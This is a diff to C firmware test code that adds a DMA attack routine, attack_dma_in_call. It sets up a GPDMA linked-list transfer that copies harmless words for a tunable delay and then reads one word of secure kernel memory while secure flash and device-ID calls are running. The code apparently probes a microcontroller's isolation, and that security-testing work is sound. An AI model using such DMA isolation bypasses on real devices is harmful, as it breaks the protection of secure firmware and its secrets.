@@ -68,6 +68,46 @@ uint32_t attack_dma_write(uint32_t argument)
     return found(1, argument, REG(CHANNEL(GPDMA1_NS, argument & 15u) + CSR), 0);
 }
 
+static uint32_t delays[0x4000 / 4];
+
+static void call_and_call(void)
+{
+    uint8_t id[34];
+    for (uint32_t i = 0; i < 2000; i++) {
+        MvExternalFlashHandle flash = 0;
+        (void)mvGetDeviceId(id, sizeof id);
+        (void)mvExternalFlashOpen(&flash);
+        (void)mvExternalFlashClose(&flash);
+    }
+}
+
+// The illegal access comes while a call is in progress: after so many words of harmless copying,
+// then one word of the kernel. From the main stack, or (bit 16) from a task.
+uint32_t attack_dma_in_call(uint32_t argument)
+{
+    uint32_t channel = CHANNEL(GPDMA1_NS, 2);
+    clock_on();
+    list[0] = 4;                           // CBR1
+    list[1] = 0x20080000u;                 // CSAR
+    list[2] = (uint32_t)(uintptr_t)buffer; // CDAR
+    list[3] = 0;                           // CLLR
+    REG(channel + CCR) = 2;
+    REG(channel + CTR1) = TR1_WORDS_INC;
+    REG(channel + CTR2) = SWREQ;
+    REG(channel + CBR1) = (argument & 0xFFFFu) * 4;
+    REG(channel + CSAR) = (uint32_t)(uintptr_t)delays;
+    REG(channel + CDAR) = (uint32_t)(uintptr_t)delays;
+    REG(channel + CLBAR) = (uint32_t)(uintptr_t)list & 0xFFFF0000u;
+    REG(channel + CLLR) = ((uint32_t)(uintptr_t)list & 0xFFFCu) | 0x38010000u; // UB1, USA, UDA, ULL
+    REG(channel + CCR) = 1;
+    if ((argument & 1u << 16) != 0) {
+        run_on_process_stack(0x20030000u, call_and_call);
+    } else {
+        call_and_call();
+    }
+    return found(1, REG(channel + CSR), REG(channel + CSAR), 0);
+}
+
 // Its orders, too, come from memory: a list in secure memory.
 uint32_t attack_dma_list(uint32_t argument)
 {
